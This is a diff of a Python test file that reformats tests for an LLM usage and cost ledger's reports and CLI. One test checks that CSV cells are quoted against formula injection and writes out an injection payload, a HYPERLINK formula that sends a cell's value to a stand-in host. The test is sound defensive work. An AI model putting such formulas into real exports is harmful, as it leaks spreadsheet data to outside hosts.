@@ -22,8 +22,14 @@ from tokenomy.ledger.store import open_store
 
 def _family(model: str) -> str:
     """Independent family rule: first known family name found in the id."""
-    for family, pattern in [("claude", "claude"), ("nova", "nova"), ("llama", "llama"), ("mistral", "mistral"),
-                            ("gpt", "gpt"), ("local", "local")]:
+    for family, pattern in [
+        ("claude", "claude"),
+        ("nova", "nova"),
+        ("llama", "llama"),
+        ("mistral", "mistral"),
+        ("gpt", "gpt"),
+        ("local", "local"),
+    ]:
         if re.search(pattern, model):
             return family
     return "other"
@@ -73,25 +79,32 @@ def _check(store, events: list[UsageEvent]) -> None:
     all_in = lambda e: e.input_tokens + e.cache_read_tokens + e.cache_write_tokens  # noqa: E731
 
     assert _rows(store, "spend", ("model",), "cost_usd") == _sum(events, lambda e: (e.model,), cost)
-    assert _rows(store, "monthly-spend", ("month", "provider"), "cost_usd") == \
-        _sum(events, lambda e: (_floor(e.ts, "month"), e.provider), cost)
-    assert _rows(store, "family-daily", ("day", "family"), "cost_usd") == \
-        _sum(since(14, "day"), lambda e: (_floor(e.ts, "day"), _family(e.model)), cost)
-    assert _rows(store, "spend", ("family",), "cost_usd", by="family") == \
-        _sum(events, lambda e: (_family(e.model),), cost)
+    assert _rows(store, "monthly-spend", ("month", "provider"), "cost_usd") == _sum(
+        events, lambda e: (_floor(e.ts, "month"), e.provider), cost
+    )
+    assert _rows(store, "family-daily", ("day", "family"), "cost_usd") == _sum(
+        since(14, "day"), lambda e: (_floor(e.ts, "day"), _family(e.model)), cost
+    )
+    assert _rows(store, "spend", ("family",), "cost_usd", by="family") == _sum(
+        events, lambda e: (_family(e.model),), cost
+    )
     for column in ("input_tokens", "output_tokens", "cache_read_tokens", "cache_write_tokens"):
-        assert _rows(store, "tokens", ("model",), column) == \
-            _sum(last(30), lambda e: (e.model,), lambda e, c=column: getattr(e, c))
-    assert _rows(store, "hourly-tokens", ("hour", "provider"), "tokens") == \
-        _sum(since(2, "hour"), lambda e: (_floor(e.ts, "hour"), e.provider), tokens)
+        assert _rows(store, "tokens", ("model",), column) == _sum(
+            last(30), lambda e: (e.model,), lambda e, c=column: getattr(e, c)
+        )
+    assert _rows(store, "hourly-tokens", ("hour", "provider"), "tokens") == _sum(
+        since(2, "hour"), lambda e: (_floor(e.ts, "hour"), e.provider), tokens
+    )
 
     read = _sum(events, lambda e: (e.model,), lambda e: e.cache_read_tokens)
     total = _sum(events, lambda e: (e.model,), all_in)
     _approx(_rows(store, "cache-hit-rate", ("model",), "cache_hit_rate"), {k: read[k] / total[k] for k in total})
     week_read = _sum(since(56, "week"), lambda e: (_floor(e.ts, "week"), e.model), lambda e: e.cache_read_tokens)
     week_total = _sum(since(56, "week"), lambda e: (_floor(e.ts, "week"), e.model), all_in)
-    _approx(_rows(store, "cache-trend", ("week", "model"), "cache_hit_rate"),
-            {k: week_read[k] / week_total[k] for k in week_total})
+    _approx(
+        _rows(store, "cache-trend", ("week", "model"), "cache_hit_rate"),
+        {k: week_read[k] / week_total[k] for k in week_total},
+    )
 
     from tokenomy.ledger.latency_rollup import RELATIVE_ERROR
 
@@ -112,8 +125,7 @@ def _check(store, events: list[UsageEvent]) -> None:
     _approx(_rows(store, "errors", ("model",), "throttle_rate"), {k: throttled[k] / calls[k] for k in calls})
     _approx(_rows(store, "errors", ("model",), "error_rate"), {k: failed[k] / calls[k] for k in calls})
 
-    assert _rows(store, "cost-per-task", ("task",), "cost_usd") == \
-        _sum(events, lambda e: (e.task or "(none)",), cost)
+    assert _rows(store, "cost-per-task", ("task",), "cost_usd") == _sum(events, lambda e: (e.task or "(none)",), cost)
     task_calls = _sum(events, lambda e: (e.task or "(none)",), lambda e: 1)
     per_call = _rows(store, "cost-per-task", ("task",), "cost_per_call_usd")
     assert all(isinstance(v, Decimal) for v in per_call.values())  # money, not a float printed as 5.3e-05
@@ -137,8 +149,9 @@ def _check(store, events: list[UsageEvent]) -> None:
 
     batch = _sum(events, lambda e: (e.model,), lambda e: e.mode == "batch")
     _approx(_rows(store, "batch-share", ("model",), "batch_call_share"), {k: batch[k] / calls[k] for k in calls})
-    assert _rows(store, "batch-share", ("model",), "batch_cost_usd") == \
-        _sum(events, lambda e: (e.model,), lambda e: e.cost_usd if e.mode == "batch" else Decimal(0))
+    assert _rows(store, "batch-share", ("model",), "batch_cost_usd") == _sum(
+        events, lambda e: (e.model,), lambda e: e.cost_usd if e.mode == "batch" else Decimal(0)
+    )
 
 
 def test_reports_duckdb(ledger_path) -> None:
@@ -163,8 +176,9 @@ def test_since_until_override_default_window(ledger_path) -> None:
     assert {r["model"]: r["output_tokens"] for r in rows} == want
     # Only --until: the 30-day default window ends there.
     rows = run_report(store, "tokens", until=until)
-    want = _sum([e for e in events if until - timedelta(days=30) <= e.ts < until], lambda e: e.model,
-                lambda e: e.output_tokens)
+    want = _sum(
+        [e for e in events if until - timedelta(days=30) <= e.ts < until], lambda e: e.model, lambda e: e.output_tokens
+    )
     assert {r["model"]: r["output_tokens"] for r in rows} == want
 
 
@@ -214,8 +228,9 @@ def test_report_cli_interface(ledger_path, tmp_path) -> None:
     for wrong in ("weak=1.5", "weak=-0.2", "weak=nan", "=0.5", "weak=0.7,strong=0.6"):  # all used to be accepted
         bad = runner.invoke(app, ["report", "tier-share", "--expected", wrong, *base])
         assert bad.exit_code != 0 and "--expected" in str(bad.exception), wrong
-    human = runner.invoke(app, ["report", "tier-share", "--expected", "weak=0.7,strong=0.3", "--ledger",
-                                str(ledger_path)])
+    human = runner.invoke(
+        app, ["report", "tier-share", "--expected", "weak=0.7,strong=0.3", "--ledger", str(ledger_path)]
+    )
     assert re.search(r"[+-]\d+\.\d%", human.output), human.output  # delta in points, not a bare 0.0
     both = runner.invoke(app, ["report", "spend", "--csv", *base])
     assert both.exit_code != 0 and "not both" in str(both.exception)
@@ -242,8 +257,10 @@ def test_report_cli_interface(ledger_path, tmp_path) -> None:
     swapped = runner.invoke(app, ["report", "spend", "--since", "2026-11-02", "--until", "2026-09-01", *base])
     assert swapped.exit_code != 0 and "is not before --until" in str(swapped.exception)
     page = tmp_path / "swapped.html"
-    swapped = runner.invoke(app, ["report", "--html", str(page), "--since", "2026-11-02", "--until", "2026-09-01",
-                                  "--ledger", str(ledger_path)])
+    swapped = runner.invoke(
+        app,
+        ["report", "--html", str(page), "--since", "2026-11-02", "--until", "2026-09-01", "--ledger", str(ledger_path)],
+    )
     assert swapped.exit_code != 0 and "is not before --until" in str(swapped.exception) and not page.exists()
     # --since at year 1 used to overflow the previous period's start: a traceback instead of a message.
     ancient = runner.invoke(app, ["report", "--html", str(page), "--since", "0001-01-01", "--ledger", str(ledger_path)])
@@ -255,8 +272,9 @@ def test_report_cli_interface(ledger_path, tmp_path) -> None:
     assert named.exit_code != 0 and "drop spend" in str(named.exception) and not page.exists()
     written = runner.invoke(app, ["report", "--html", str(page), *base])
     assert written.exit_code == 0 and json.loads(written.output) == {"html": str(page)} and page.exists()
-    empty = runner.invoke(app, ["report", "spend", "--since", "2020-01-01", "--until", "2020-02-01",
-                                "--ledger", str(ledger_path)])
+    empty = runner.invoke(
+        app, ["report", "spend", "--since", "2020-01-01", "--until", "2020-02-01", "--ledger", str(ledger_path)]
+    )
     assert empty.exit_code == 0 and "no usage in the ledger from 2020-01-01" in empty.output
 
 
@@ -271,8 +289,9 @@ def test_reports_clickhouse(tmp_path) -> None:
     _check(store, store.events())
     runner = CliRunner()
     for name in REPORTS:  # the CLI opens the same ledger by its chdb: URL
-        result = runner.invoke(app, ["report", name, "--json", "--since", "2026-09-01", "--until", "2026-11-02",
-                                     "--ledger", store.url])
+        result = runner.invoke(
+            app, ["report", name, "--json", "--since", "2026-09-01", "--until", "2026-11-02", "--ledger", store.url]
+        )
         assert result.exit_code == 0, (name, result.output)
         assert json.loads(result.output), name
     spend = json.loads(runner.invoke(app, ["report", "spend", "--json", "--ledger", store.url]).output)
@@ -301,8 +320,10 @@ def test_tier_share_compares_the_expected_split_with_routed_calls_only(tmp_path)
     `route drift` and the routing_drift alert read them, so the delta is taken among routed calls."""
     ts = datetime(2026, 11, 2, 12, tzinfo=UTC)
     events = [UsageEvent(ts=ts, provider="local", model="local", task="chat") for _ in range(6)]
-    events += [UsageEvent(ts=ts, provider="local", model="local", route="support", tier=tier)
-               for tier in ("weak", "weak", "weak", "strong")]
+    events += [
+        UsageEvent(ts=ts, provider="local", model="local", route="support", tier=tier)
+        for tier in ("weak", "weak", "weak", "strong")
+    ]
     store = open_store(tmp_path / "ledger.duckdb")
     store.write(events)
     rows = {r["tier"]: r for r in run_report(store, "tier-share", expected={"weak": 0.75, "strong": 0.25})}
@@ -316,10 +337,12 @@ def test_a_group_without_a_value_reads_none_not_a_blank(tmp_path) -> None:
     # `report spend --by task` showed calls recorded without a task on a row with an empty label.
     ledger = tmp_path / "ledger.duckdb"
     day = datetime(2026, 11, 2, 10, tzinfo=UTC)
-    open_store(ledger).write([
-        UsageEvent(ts=day, provider="openai", model="gpt-4o-mini", task="summarise", cost_usd=Decimal("0.002")),
-        UsageEvent(ts=day, provider="openai", model="gpt-4o-mini", cost_usd=Decimal("0.001")),
-    ])
+    open_store(ledger).write(
+        [
+            UsageEvent(ts=day, provider="openai", model="gpt-4o-mini", task="summarise", cost_usd=Decimal("0.002")),
+            UsageEvent(ts=day, provider="openai", model="gpt-4o-mini", cost_usd=Decimal("0.001")),
+        ]
+    )
     result = CliRunner().invoke(app, ["report", "spend", "--by", "task", "--ledger", str(ledger)])
     assert result.exit_code == 0, result.output
     lines = [line for line in result.output.splitlines() if "$0.001000" in line]
@@ -334,8 +357,12 @@ def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_quoted(tmp_path) -> N
     ledger = tmp_path / "ledger.duckdb"
     day = datetime(2026, 11, 2, 10, tzinfo=UTC)
     tasks = ['=HYPERLINK("http://x.example/?"&A1,"open")', "@SUM(A1)", "+1+2", "-0.5", "summarise"]
-    open_store(ledger).write([UsageEvent(ts=day, provider="openai", model="gpt-4o-mini", task=task,
-                                         cost_usd=Decimal("0.001")) for task in tasks])
+    open_store(ledger).write(
+        [
+            UsageEvent(ts=day, provider="openai", model="gpt-4o-mini", task=task, cost_usd=Decimal("0.001"))
+            for task in tasks
+        ]
+    )
     result = CliRunner().invoke(app, ["report", "spend", "--by", "task", "--csv", "--ledger", str(ledger)])
     assert result.exit_code == 0, result.output
     cells = {line.split(",")[0].strip('"') for line in result.output.splitlines()[1:]}
@@ -349,10 +376,22 @@ def test_a_default_window_starts_on_a_whole_period_of_the_rows(ledger_path) -> N
     now = datetime(2026, 11, 18, 12, 30, tzinfo=UTC)  # a Wednesday
     first_day = datetime(2026, 11, 4, tzinfo=UTC)
     first_week = datetime(2026, 9, 21, tzinfo=UTC)  # the Monday of now - 56 days (Wednesday 2026-09-23)
-    events = [UsageEvent(ts=ts, provider="bedrock", model="anthropic.claude-x", input_tokens=10, cache_read_tokens=c,
-                         cost_usd=Decimal(cost))
-              for ts, cost, c in ((first_day + timedelta(hours=6), "2", 0), (first_day + timedelta(hours=18), "1", 0),
-                                  (now - timedelta(days=2, minutes=20), "5", 0), (first_week, "0", 30))]
+    events = [
+        UsageEvent(
+            ts=ts,
+            provider="bedrock",
+            model="anthropic.claude-x",
+            input_tokens=10,
+            cache_read_tokens=c,
+            cost_usd=Decimal(cost),
+        )
+        for ts, cost, c in (
+            (first_day + timedelta(hours=6), "2", 0),
+            (first_day + timedelta(hours=18), "1", 0),
+            (now - timedelta(days=2, minutes=20), "5", 0),
+            (first_week, "0", 30),
+        )
+    ]
     store = open_store(ledger_path)
     store.write(events)
     daily = {r["day"].astimezone(UTC): r["cost_usd"] for r in run_report(store, "family-daily", now=now)}
@@ -387,19 +426,32 @@ def test_a_providers_metered_and_billed_spend_is_one_provider(request, url_fixtu
     from tokenomy.analytics.dashboard_providers import providers
 
     store = open_store(request.getfixturevalue(url_fixture))
-    store.write([
-        UsageEvent(ts=datetime(2026, 10, 5, tzinfo=UTC), provider="bedrock", model="anthropic.claude-3-haiku",
-                   cost_usd=Decimal("4"), priced_by="billed"),
-        UsageEvent(ts=datetime(2026, 11, 5, 9, tzinfo=UTC), provider="aws.bedrock", model="anthropic.claude-3-haiku",
-                   input_tokens=100, cost_usd=Decimal("3")),
-    ])
+    store.write(
+        [
+            UsageEvent(
+                ts=datetime(2026, 10, 5, tzinfo=UTC),
+                provider="bedrock",
+                model="anthropic.claude-3-haiku",
+                cost_usd=Decimal("4"),
+                priced_by="billed",
+            ),
+            UsageEvent(
+                ts=datetime(2026, 11, 5, 9, tzinfo=UTC),
+                provider="aws.bedrock",
+                model="anthropic.claude-3-haiku",
+                input_tokens=100,
+                cost_usd=Decimal("3"),
+            ),
+        ]
+    )
     monthly = run_report(store, "monthly-spend", since=datetime(2026, 10, 1, tzinfo=UTC))
     assert [(r["provider"], r["cost_usd"]) for r in monthly] == [("bedrock", 4), ("bedrock", 3)]
     spend = run_report(store, "spend", by="provider", since=datetime(2026, 10, 1, tzinfo=UTC))
     assert [(r["provider"], r["cost_usd"], r["calls"]) for r in spend] == [("bedrock", 7, 1)]  # the bill is no call
     autumn = Filters(since=datetime(2026, 10, 1, tzinfo=UTC), until=datetime(2026, 12, 1, tzinfo=UTC))
     assert [(r["key"], Decimal(r["cost_usd"])) for r in breakdown(store, autumn)["groups"]["provider"]] == [
-        ("bedrock", 7)]
+        ("bedrock", 7)
+    ]
     view = providers(store, autumn)
     assert [(r["month"], r["provider"]) for r in view["monthly"]] == [("2026-10", "bedrock"), ("2026-11", "bedrock")]
     assert filter_options(store)["providers"] == ["bedrock"]
@@ -417,14 +469,38 @@ def test_calls_are_metered_calls_not_a_bills_rows(request, tmp_path, url_fixture
     url = f"chdb:{tmp_path / 'l.chdb'}" if url_fixture == "clickhouse" else request.getfixturevalue(url_fixture)
     store = open_store(url)
     day = datetime(2026, 11, 5, tzinfo=UTC)
-    store.write([
-        UsageEvent(ts=day + timedelta(hours=9), provider="openai", model="m", task="qa", input_tokens=10,
-                   cost_usd=Decimal("0.5"), tags={"team": "a"}),
-        UsageEvent(ts=day + timedelta(hours=10, minutes=30), provider="openai", model="m", task="qa",
-                   input_tokens=10, cost_usd=Decimal("0.5"), tags={"team": "a"}),
-        UsageEvent(ts=day - timedelta(days=1), provider="openai", model="m", task="qa", input_tokens=9000,
-                   cost_usd=Decimal("8"), priced_by="billed", tags={"team": "a"}),  # a day with no metered call
-    ])
+    store.write(
+        [
+            UsageEvent(
+                ts=day + timedelta(hours=9),
+                provider="openai",
+                model="m",
+                task="qa",
+                input_tokens=10,
+                cost_usd=Decimal("0.5"),
+                tags={"team": "a"},
+            ),
+            UsageEvent(
+                ts=day + timedelta(hours=10, minutes=30),
+                provider="openai",
+                model="m",
+                task="qa",
+                input_tokens=10,
+                cost_usd=Decimal("0.5"),
+                tags={"team": "a"},
+            ),
+            UsageEvent(
+                ts=day - timedelta(days=1),
+                provider="openai",
+                model="m",
+                task="qa",
+                input_tokens=9000,
+                cost_usd=Decimal("8"),
+                priced_by="billed",
+                tags={"team": "a"},
+            ),  # a day with no metered call
+        ]
+    )
     since, until = day - timedelta(days=2), day + timedelta(days=2)
     for edge in (timedelta(0), timedelta(minutes=17)):  # whole hours (rollups) and partial hours (raw rows)
         spend = run_report(store, "spend", since=since + edge, until=until)
@@ -452,8 +528,13 @@ def test_cost_per_call_is_exact_to_the_last_of_twelve_places(request, tmp_path, 
     store = open_store(url)
     day = datetime(2026, 11, 5, 9, tzinfo=UTC)
     costs = {"a": ["10000.000000000001"] * 3, "b": ["99999.999999999999"] * 7, "c": ["-0.000000000005", "0"]}
-    store.write([UsageEvent(ts=day, provider="openai", model="m", task=task, cost_usd=Decimal(cost), tags={"t": task})
-                 for task, each in costs.items() for cost in each])
+    store.write(
+        [
+            UsageEvent(ts=day, provider="openai", model="m", task=task, cost_usd=Decimal(cost), tags={"t": task})
+            for task, each in costs.items()
+            for cost in each
+        ]
+    )
     want = {"a": Decimal("10000.000000000001"), "b": Decimal("99999.999999999999")}
     for name, key in (("cost-per-task", "task"), ("cost-per-tag", "tag_value")):
         got = {r[key]: r["cost_per_call_usd"] for r in run_report(store, name)}
